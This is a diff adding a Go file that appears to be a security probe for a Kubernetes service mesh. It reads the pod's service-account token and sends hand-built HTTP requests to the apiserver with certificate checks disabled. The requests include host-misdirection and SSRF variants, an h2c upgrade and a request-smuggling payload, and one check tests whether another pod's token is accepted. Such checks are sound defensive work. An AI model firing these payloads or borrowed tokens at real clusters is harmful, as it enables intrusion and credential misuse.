@@ -1,0 +1,100 @@
+package main
+
+import (
+	"bufio"
+	"context"
+	"crypto/tls"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"os"
+	"strings"
+	"time"
+)
+
+const tokenFile = "/var/run/secrets/kubernetes.io/serviceaccount/token"
+
+// dial speaks TLS with whoever answers for the apiserver.
+func dial(sni, protocol string) (*tls.Conn, error) {
+	conn, err := tls.DialWithDialer(&net.Dialer{Timeout: patience}, "tcp", apiserver(), &tls.Config{
+		InsecureSkipVerify: true, ServerName: sni, NextProtos: []string{protocol}, //nolint:gosec // it is the mesh, says forge
+	})
+	if err == nil {
+		err = conn.SetDeadline(time.Now().Add(patience))
+	}
+	return conn, err
+}
+
+// send sends a request as it is and returns the answer's code and body.
+func send(sni, request, token string) (int, string, error) {
+	conn, err := dial(sni, "http/1.1")
+	if err != nil {
+		return 0, "", err
+	}
+	defer conn.Close()
+	if _, err := io.WriteString(conn, request+"Authorization: Bearer "+token+"\r\n\r\n"); err != nil {
+		return 0, "", err
+	}
+	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
+	if err != nil {
+		return 0, "", err
+	}
+	defer resp.Body.Close()
+	body, err := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
+	return resp.StatusCode, string(body), err
+}
+
+// misdirect names another address in each place of a request that could. Whether the
+// mesh went there is known at that address.
+func misdirect(_ context.Context, decoy string) (verdict, error) {
+	token, err := os.ReadFile(tokenFile)
+	if err != nil {
+		return verdict{}, err
+	}
+	host, _, _ := net.SplitHostPort(decoy)
+	answered := 0
+	for _, r := range []struct{ sni, request string }{
+		{"decoy.example.com", "GET /version HTTP/1.1\r\nHost: " + decoy + "\r\n"},
+		{"", "GET https://" + decoy + "/version HTTP/1.1\r\nHost: " + decoy + "\r\n"},
+		{"", "GET http://" + decoy + "/version HTTP/1.1\r\nHost: kubernetes\r\n"},
+		{"", "CONNECT " + decoy + " HTTP/1.1\r\nHost: " + decoy + "\r\n"},
+		{"", "GET //" + decoy + "/version HTTP/1.1\r\nHost: kubernetes\r\n"},
+		{"", "GET /version HTTP/1.1\r\nHost: kubernetes\r\nX-Forwarded-Host: " + decoy + "\r\nForwarded: host=" + host + "\r\n"},
+		{"", "GET /version HTTP/1.1\r\nHost: " + decoy + "\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n"},
+		// Two lengths: whoever believes the one takes the rest for another request.
+		{"", "POST /version HTTP/1.1\r\nHost: kubernetes\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n"},
+	} {
+		if _, _, err := send(r.sni, r.request, strings.TrimSpace(string(token))); err == nil {
+			answered++
+		}
+	}
+	if answered == 0 {
+		return verdict{}, fmt.Errorf("none of the requests was answered")
+	}
+	return held("%d requests were answered", answered)
+}
+
+// borrow asks with another pod's token.
+func borrow(_ context.Context, file string) (verdict, error) {
+	const request = "GET /api/v1/namespaces/default HTTP/1.1\r\nHost: kubernetes\r\n"
+	own, err := os.ReadFile(tokenFile)
+	if err != nil {
+		return verdict{}, err
+	}
+	if code, body, err := send("", request, strings.TrimSpace(string(own))); err != nil || code != http.StatusOK {
+		return verdict{}, fmt.Errorf("its own token: %d %s: %w", code, body, err)
+	}
+	borrowed, err := os.ReadFile(file)
+	if err != nil {
+		return verdict{}, err
+	}
+	code, body, err := send("", request, strings.TrimSpace(string(borrowed)))
+	if err != nil {
+		return verdict{}, err
+	}
+	if code != http.StatusForbidden {
+		return broken("answered %d", code)
+	}
+	return held("%s", body)
+}
